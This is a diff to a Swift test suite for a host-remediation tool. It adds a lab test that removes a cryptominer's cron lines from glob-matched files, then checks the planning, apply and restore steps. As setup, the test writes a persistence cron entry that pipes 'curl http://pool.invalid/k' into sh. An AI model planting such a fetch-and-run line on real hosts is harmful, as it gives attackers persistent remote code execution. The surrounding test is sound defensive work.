@@ -5,7 +5,8 @@ import TestSupport
 
 /// `remove_lines` through the real `scour` on lab hosts: an attacker's key line out of root's
 /// authorized_keys (the controller's key line and another kept) and a cron line out of a cron
-/// file; plan, apply, plan again, restore; the hosts checked over plain OpenSSH.
+/// file; the miner's lines out of every file a glob matches (the cryptominer scenario);
+/// plan, apply, plan again, restore; the hosts checked over plain OpenSSH.
 @Suite(.enabled(if: LabFixture.shouldRun, "needs root (runs in CI)"))
 struct RemoveLinesOnLabTests {
     static let keys = "/root/.ssh/authorized_keys"
@@ -156,5 +157,80 @@ struct RemoveLinesOnLabTests {
         #expect(stopped.stdout.contains("the originals of \(Self.keys) were put back"), "\(stopped.stdout)")
         #expect(try lab.ssh(host, Self.describe).stdout == before, "the key file back byte for byte, with mode, owner and mtime")
         #expect(try lab.ssh(host, "cat /tmp/real/profile").stdout == profile, "the file behind the link untouched")
+    }
+
+    /// The files of the glob case: what `/etc/cron.d/*` matches and root's crontab.
+    static let cronFiles = "/etc/cron.d/* /var/spool/cron/crontabs/root"
+
+    @Test func a_glob_edits_every_matched_file_with_a_matching_line_within_max_matches_and_restore_puts_each_back() throws {
+        let lab = try LabFixture(hosts: 2, scenario: "cryptominer", extraArguments: ["--infected-share", "50%"])
+        let infected = try #require(lab.state.hosts.first { $0.infected })
+        let clean = try #require(lab.state.hosts.first { !$0.infected })
+        // A second dropped file: the glob then has two files to edit, one of them all malicious but a comment.
+        let dropped = try lab.ssh(infected, "printf '# kworker\\n*/5 * * * * root curl -fsSL http://pool.invalid/k | sh\\n' > /etc/cron.d/0kworker")
+        #expect(dropped.status == 0, "\(dropped.stderr)")
+        let matched = try lab.ssh(infected, "ls -d /etc/cron.d/*").stdout.split(separator: "\n").map(String.init)
+        #expect(matched.contains("/etc/cron.d/sysstat") && matched.contains("/etc/cron.d/e2scrub_all") && matched.contains("/etc/cron.d/0kworker"))
+        let describe = "sha256sum \(Self.cronFiles); stat -c '%n %a %U %G %Y' \(Self.cronFiles)"
+        let before = try lab.ssh(infected, describe).stdout
+        var originals: [String: String] = [:]
+        for path in matched + ["/var/spool/cron/crontabs/root"] { originals[path] = try lab.ssh(infected, "cat \(path)").stdout }
+        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]
+        func playbook(_ maxMatches: Int) throws -> String {
+            try write(lab, "cron-\(maxMatches).scour", """
+                playbook "cron" {
+                  platform = linux
+                  remove_lines "miner_cron" {
+                    paths       = ['/etc/cron.d/*', '/var/spool/cron/crontabs/root', '/etc/cron.d/sysstat']
+                    max_matches = \(maxMatches)
+                    pattern     = 'pool\\.invalid'
+                  }
+                }
+                """)
+        }
+
+        // More files than max_matches: the step is blocked, nothing is touched.
+        let narrow = try playbook(matched.count - 1)
+        let blocked = try scour(lab, ["apply", narrow] + common + ["--no-progress"])
+        #expect(blocked.status != 0)
+        #expect(blocked.stdout.contains("/etc/cron.d/* matches \(matched.count) paths, more than max_matches = \(matched.count - 1)"), "\(blocked.stdout)")
+        #expect(try lab.ssh(infected, describe).stdout == before, "a blocked step changes nothing")
+
+        let wide = try playbook(matched.count)
+        let plan = try scour(lab, ["plan", wide] + common)
+        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
+        #expect(plan.stdout.contains("changes: 3 edit config"), "\(plan.stdout)")
+        for path in ["/etc/cron.d/0kworker", "/etc/cron.d/sysstat", "/var/spool/cron/crontabs/root"] {
+            #expect(plan.stdout.contains("edit \(path): remove line"), "\(path): \(plan.stdout)")
+            #expect(plan.stdout.contains("--- \(path)\n") && plan.stdout.contains("+++ \(path) (scour)\n"), "a diff per edited file: \(path)")
+        }
+        #expect(!plan.stdout.contains("edit /etc/cron.d/e2scrub_all"), "the benign file is not edited")
+        #expect(try lab.ssh(infected, describe).stdout == before, "planning changes nothing")
+
+        let applied = try scour(lab, ["apply", wide] + common + ["--no-progress"])
+        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
+        for (path, original) in originals {
+            let kept = original.split(separator: "\n", omittingEmptySubsequences: false).filter { !$0.contains("pool.invalid") }.joined(separator: "\n")
+            #expect(try lab.ssh(infected, "cat \(path)").stdout == kept, "\(path): exactly the miner's lines went")
+        }
+        #expect(try lab.ssh(infected, "grep -l pool.invalid \(Self.cronFiles)").status == 1, "no matching line left in any matched file")
+        #expect(try lab.ssh(infected, "stat -c '%a %U' /var/spool/cron/crontabs/root").stdout == "600 root\n", "mode and owner kept")
+        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
+        let edits = try journal(lab, run).compactMap { $0["config_edits"] as? [[String: Any]] }.flatMap { $0 }
+        #expect(edits.compactMap { $0["path"] as? String }.sorted() == ["/etc/cron.d/0kworker", "/etc/cron.d/sysstat", "/var/spool/cron/crontabs/root"],
+                "one record per edited file, the file named twice once: \(edits)")
+
+        let again = try scour(lab, ["plan", wide] + common + ["--format", "json"])
+        let document = try PlanDocument.decode(Data(again.stdout.utf8))
+        for host in document.hosts {
+            #expect(host.steps.allSatisfy { $0.action == .ok && $0.changes.isEmpty }, "\(host.name): \(host.steps)")
+        }
+        let cleanSteps = try #require(document.hosts.first { $0.name == clean.name }?.steps)
+        #expect(cleanSteps.first?.reason.hasPrefix("no line of the ") == true, "the clean host's matched files were read: \(cleanSteps)")
+
+        let restored = try scour(lab, ["restore", run])
+        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
+        #expect(restored.stdout.contains("restored 0 files and 3 configs"), "\(restored.stdout)")
+        #expect(try lab.ssh(infected, describe).stdout == before, "every edited file back: bytes, mode, owner and mtime")
     }
 }
